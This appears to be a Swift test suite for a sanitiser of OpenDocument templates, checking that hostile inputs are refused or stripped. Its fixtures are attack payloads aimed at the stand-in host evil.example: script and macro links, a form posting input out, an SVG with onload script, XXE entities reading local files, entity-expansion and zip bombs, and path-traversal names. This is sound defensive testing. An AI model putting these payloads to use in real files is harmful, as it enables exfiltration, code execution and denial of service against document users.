import Archive
import Documents
import Foundation
import TestSupport
import Testing
import XML

/// Templates made to fetch, run or tell something: each is refused, or comes out without it.
@Suite("Hostile templates") struct HostileTemplateTests {
  /// What a template holds that must be nowhere in what is made of it.
  struct Hostile: Sendable, CustomTestStringConvertible {
    let name: String
    let body: String
    var automatic = ""
    var styles = ""
    var header = ""
    /// What a reader still sees.
    var shows = "ab"

    var testDescription: String { name }

    var template: [UInt8] {
      flat(body, styles: styles, automatic: automatic, header: header)
    }
  }

  /// In every attack stands this word, in what would be fetched, run or told.
  private static let evil = "evil.example"
  private static let picture = " svg:width=\"1cm\" svg:height=\"1cm\" draw:name=\"P\""

  private static func p(_ inside: String) -> String { "<text:p>a\(inside)b</text:p>" }

  private static let links = [
    "file:///etc/evil.example", "macro:///Standard.evil.example()", "javascript:evil.example()",
    "vnd.sun.star.script:evil.example?language=Basic", "vnd.sun.star.expand:evil.example",
    "data:text/html,evil.example", "smb://evil.example/x", "\\\\evil.example\\x",
    "//evil.example/x",
    "../../evil.example.odt", "ftp://evil.example", " javascript:evil.example",
    "JavaScript:evil.example",
    "java\tscript:evil.example", ".uno:evil.example", "service:evil.example", "",
  ].map { link in
    Hostile(
      name: "a link to \(link.debugDescription)",
      body: p(
        "<text:a xlink:type=\"simple\" xlink:href=\"\(link.replacingOccurrences(of: "\t", with: "&#9;"))\">"
          + "x</text:a>"), shows: "axb")
  }

  private static let fetched = ["http://evil.example/x", "file:///evil.example", "../evil.example"]
    .flatMap { link -> [Hostile] in
      let href = "xlink:type=\"simple\" xlink:href=\"\(link)\""
      return [
        Hostile(
          name: "a picture from \(link)",
          body: p("<draw:frame\(picture)><draw:image \(href)/></draw:frame>")),
        Hostile(
          name: "an object from \(link)",
          body: p("<draw:frame\(picture)><draw:object \(href)/><draw:image \(href)/></draw:frame>")),
        Hostile(
          name: "an OLE object from \(link)",
          body: p("<draw:frame\(picture)><draw:object-ole \(href)/></draw:frame>")),
        Hostile(
          name: "a frame that shows \(link)",
          body: p("<draw:frame\(picture)><draw:floating-frame \(href)/></draw:frame>")),
        Hostile(
          name: "a film from \(link)",
          body: p("<draw:frame\(picture)><draw:plugin \(href)/></draw:frame>")),
        Hostile(
          name: "an applet from \(link)",
          body: p("<draw:frame\(picture)><draw:applet \(href) draw:code=\"x\"/></draw:frame>")),
        Hostile(
          name: "a section from \(link)",
          body:
            "<text:section text:name=\"S\"><text:section-source \(href)/>\(p(""))</text:section>"),
        Hostile(
          name: "a word list from \(link)",
          body: "<text:alphabetical-index-auto-mark-file \(href)/>" + p("")),
        Hostile(
          name: "a background from \(link)", body: p(""),
          automatic: "<style:style style:name=\"X\" style:family=\"paragraph\">"
            + "<style:paragraph-properties><style:background-image \(href)/>"
            + "</style:paragraph-properties></style:style>"),
        Hostile(
          name: "a filling from \(link)", body: p(""),
          styles: "<draw:fill-image draw:name=\"F\" \(href)/>"),
        Hostile(
          name: "a bullet from \(link)", body: p(""),
          styles: "<text:list-style style:name=\"L\"><text:list-level-style-image text:level=\"1\""
            + " \(href)/></text:list-style>"),
        Hostile(
          name: "a table from \(link)",
          body: p("")
            + "<table:table table:name=\"T\"><table:table-source \(href)/><table:table-column"
            + "/><table:table-row><table:table-cell/></table:table-row></table:table>"),
      ]
    }

  private static let run: [Hostile] = [
    Hostile(
      name: "a script that runs when a link is touched",
      body: p(
        "<text:a xlink:type=\"simple\" xlink:href=\"https://example.org\"><office:event-listeners>"
          + "<script:event-listener xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
          + " script:language=\"ooo:script\" script:event-name=\"dom:mouseover\""
          + " xlink:href=\"vnd.sun.star.script:evil.example\"/></office:event-listeners>x</text:a>"),
      shows: "axb"),
    Hostile(
      name: "a script in the text",
      body: p("<text:script xlink:type=\"simple\" xlink:href=\"http://evil.example\"/>")
        + "<text:p><text:script>evil.example()</text:script></text:p>"),
    Hostile(
      name: "a macro field",
      body: p("<text:execute-macro text:name=\"evil.example\">run</text:execute-macro>")),
    Hostile(
      name: "a form that sends what is typed",
      body: "<office:forms><form:form xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\""
        + " form:name=\"F\" xlink:href=\"http://evil.example/submit\" form:method=\"post\"/>"
        + "</office:forms>" + p("<draw:control draw:control=\"evil.example\"/>")),
    Hostile(
      name: "DDE",
      body: "<text:dde-connection-decls><text:dde-connection-decl office:name=\"d\""
        + " office:dde-application=\"evil.example\" office:dde-topic=\"t\" office:dde-item=\"i\"/>"
        + "</text:dde-connection-decls>"
        + p("<text:dde-connection text:connection-name=\"evil.example\">x</text:dde-connection>")
        + "<text:section text:name=\"S\"><office:dde-source office:dde-application=\"evil.example\""
        + " office:dde-topic=\"t\" office:dde-item=\"i\"/></text:section>"),
    Hostile(
      name: "a field that reads a database",
      body: p(
        "<text:database-display text:table-name=\"evil.example\" text:column-name=\"c\""
          + " text:table-type=\"table\">x</text:database-display><text:database-next"
          + " text:database-name=\"evil.example\" text:table-name=\"t\"/>"), shows: "axb"),
    Hostile(
      name: "words in an attribute of a field",
      body: p(
        "<text:conditional-text text:condition=\"ooow:1\" text:string-value-if-true=\"evil.example\""
          + " text:string-value-if-false=\"x\">x</text:conditional-text><text:hidden-text"
          + " text:condition=\"ooow:1\" text:string-value=\"evil.example\" text:is-hidden=\"true\"/>"
      ),
      shows: "axb"),
    Hostile(
      name: "another place for all links",
      body: "<text:p xml:base=\"http://evil.example/\">ab</text:p>"),
    Hostile(
      name: "a header that is switched off", body: p(""),
      header: "<style:header><text:p>x</text:p></style:header><style:header-left"
        + " style:display=\"false\"><text:p>evil.example</text:p></style:header-left>"),
    Hostile(
      name: "a style that hides words",
      body: p("<text:span text:style-name=\"H2\">evil.example</text:span>")
        + "<text:p text:style-name=\"HP\">evil.example</text:p>",
      automatic: "<style:style style:name=\"HP\" style:family=\"paragraph\"><style:text-properties"
        + " text:display=\"none\"/></style:style>",
      styles: "<style:style style:name=\"H1\" style:family=\"text\"><style:text-properties"
        + " text:display=\"none\"/></style:style><style:style style:name=\"H2\""
        + " style:family=\"text\" style:parent-style-name=\"H1\"/>"),
    Hostile(
      name: "a drawing that fetches and runs",
      body: p(
        "<draw:frame\(picture)><draw:image><office:binary-data>"
          + Data(drawing.utf8).base64EncodedString() + "</office:binary-data></draw:image>"
          + "<svg:desc>Logo</svg:desc></draw:frame>"), shows: "aLogob"),
    Hostile(
      name: "a font from elsewhere", body: p(""),
      styles: "<style:style style:name=\"X\" style:family=\"text\"/>"),
  ]

  private static let drawing = """
    <?xml-stylesheet href="http://evil.example/x.css"?>
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
      onload="evil.example()"><script>evil.example()</script><style>@import url(http://evil.example);
      </style><image xlink:href="http://evil.example/x.png"/><rect style="fill:url(http://evil.example)"
      fill="red" width="9"/><use href="file:///evil.example"/><a xlink:href="javascript:evil.example"/>
      <foreignObject>evil.example</foreignObject><!-- evil.example --></svg>
    """

  static let all = links + fetched + run

  @Test("what would fetch, run or hide is nowhere in what is made", arguments: all)
  func nowhere(_ hostile: Hostile) throws {
    let bytes = try package(hostile.template, [:])
    let reader = try ZipReader(bytes: bytes)
    for entry in reader.entries {
      let text = try String(decoding: reader.read(entry.name), as: UTF8.self).lowercased()
      #expect(!text.contains(Self.evil), "\(entry.name)")
      #expect(!text.contains("<!doctype") && !text.contains("xml-stylesheet"), "\(entry.name)")
    }
    let text = try part("content.xml", of: bytes).child("body")?.text
    #expect(text == hostile.shows)
    // A fault that would keep it from opening would be an attack too; tables here have no columns.
    let faults = OdtCheck.faults(in: bytes).filter {
      if case .columnWithoutWidth = $0 { false } else { true }
    }
    #expect(faults.isEmpty)
  }

  /// A package of parts, as an attacker packs it.
  private func packed(_ parts: [(String, String)]) throws -> [UInt8] {
    var zip = ZipWriter()
    for (name, text) in parts { try zip.add(name, Array(text.utf8)) }
    return try zip.finish()
  }

  private func content(_ body: String, before: String = "") -> String {
    let odf = "urn:oasis:names:tc:opendocument:xmlns:"
    return before + "<office:document-content xmlns:office=\"\(odf)office:1.0\" xmlns:text=\"\(odf)"
      + "text:1.0\"><office:body><office:text>\(body)</office:text></office:body>"
      + "</office:document-content>"
  }

  @Test("macros, thumbnails, settings and other files of a package stay behind")
  func otherFiles() throws {
    let bytes = try package(
      packed([
        ("content.xml", content("<text:p>ab</text:p>")),
        ("Basic/Standard/Module1.xml", "evil.example"),
        ("Scripts/python/x.py", "evil.example"), ("settings.xml", "evil.example"),
        ("meta.xml", "evil.example"), ("Object 1/content.xml", "evil.example"),
        ("Pictures/x.html", "<html>evil.example</html>"), ("manifest.rdf", "evil.example"),
        ("META-INF/macrosignatures.xml", "evil.example"),
      ]), [:])
    let reader = try ZipReader(bytes: bytes)
    #expect(
      reader.entries.map(\.name) == [
        "mimetype", "META-INF/manifest.xml", "content.xml", "styles.xml", "meta.xml",
        "settings.xml",
      ])
    for entry in reader.entries {
      let text = try String(decoding: reader.read(entry.name), as: UTF8.self)
      #expect(!text.contains(Self.evil), "\(entry.name)")
    }
  }

  @Test(
    "a document type that declares entities is refused, however",
    arguments: [
      "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
      "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
      "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>",
    ])
  func entities(type: String) throws {
    let bytes = try packed([("content.xml", content("<text:p>&e;</text:p>", before: type))])
    for template in [bytes, Array(content("<text:p>&e;</text:p>", before: type).utf8)] {
      let error = #expect(throws: TemplateError.self) { try OdtTemplate(template) }
      // One that is nowhere defined, as those are that would have to be fetched, is damage.
      switch error {
      case .xml(_, .entityRefused)?: continue
      case .xml(_, .malformed)? where type.contains("%"): continue
      default: Issue.record("\(String(describing: error))")
      }
    }
  }

  @Test("a document type and a stylesheet elsewhere are passed over")
  func elsewhere() throws {
    let before =
      "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?>"
      + "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">"
    let bytes = try package(
      packed([("content.xml", content("<text:p>ab</text:p>", before: before))]), [:])
    let text = try String(decoding: ZipReader(bytes: bytes).read("content.xml"), as: UTF8.self)
    #expect(!text.contains(Self.evil) && text.contains("<text:p>ab</text:p>"))
  }

  @Test("a bomb, a name outside the package and a doubled part are refused")
  func packages() throws {
    let zeros = content("<text:p>\(String(repeating: " ", count: 8 << 20))</text:p>")
    let bomb = try packed([("content.xml", zeros)])
    #expect(bomb.count < 1 << 16)
    let error = #expect(throws: TemplateError.self) { try OdtTemplate(bomb) }
    guard case .archive(.bomb)? = error else {
      Issue.record("\(String(describing: error))")
      return
    }
    // A name of the same length is put into the finished bytes: the writer refuses such a name.
    let sound = try packed([
      ("content.xml", content("<text:p>ab</text:p>")), ("Pictures/..a../x.png", "x"),
    ])
    for name in ["../../../etc/passwd0", "/etc/passwd000000000", "content.xml"] {
      var bytes = sound
      let old = Array("Pictures/..a../x.png".utf8)
      guard name.utf8.count == old.count else { continue }
      for start in 0..<(bytes.count - old.count) where bytes[start...].starts(with: old) {
        bytes.replaceSubrange(start..<(start + old.count), with: Array(name.utf8))
      }
      #expect(bytes != sound)
      #expect(throws: TemplateError.archive(.unsafeName(name))) { try OdtTemplate(bytes) }
    }
  }

  @Test("numbers no page can hold neither stop nor fill the machine")
  func numbers() throws {
    let huge = [
      "9223372036854775807", "-9223372036854775808", "99999999999999999999", "-5", "x", "",
    ]
    for number in huge + ["nan", "inf", "1e300"] {
      let styles = """
        <style:style style:name="Heading_20_1" style:family="paragraph"/>
        """
      let automatic = """
        <style:page-layout style:name="PX"><style:page-layout-properties
          fo:page-width="\(number)cm" fo:margin-left="\(number)in"/></style:page-layout>
        """
      let body = """
        <text:h text:outline-level="\(number)">a</text:h><text:p><text:s text:c="\(number)"/></text:p>
        <text:p><draw:frame draw:name="image g" svg:width="\(number)cm" svg:height="\(number)mm"/>
        </text:p><table:table><table:table-column table:number-columns-repeated="\(number)"/>
        <table:table-row><table:table-cell table:number-rows-spanned="\(number)"><text:p>b</text:p>
        </table:table-cell></table:table-row></table:table><text:p>\(field("b"))</text:p>
        """
      var template = String(
        decoding: flat(
          body, styles: styles, automatic: automatic,
          masters: "<style:master-page style:name=\"X\" style:page-layout-name=\"PX\"/>"),
        as: UTF8.self)
      template = template.replacingOccurrences(
        of: "text:display-levels=\"2\"",
        with: "text:display-levels=\"\(number)\" text:start-value=\"\(number)\"")
      let bytes = try package(
        Array(template.utf8),
        [
          "g": Make.picture,
          "b": .blocks([
            .heading(.two, ["x"]), .turn(to: .landscape), .table(Table(widths: [1], rows: [["c"]])),
          ]),
        ])
      let text = try #require(try part("content.xml", of: bytes).child("body")).text
      #expect(text.contains("a") && text.contains("b"))
      // And so with what reads it back.
      let again = try Document(odt: bytes, metadata: metadata)
      #expect(try !again.docx().isEmpty)
      #expect(again.plainText.utf8.count < 1 << 16)
    }
  }
}
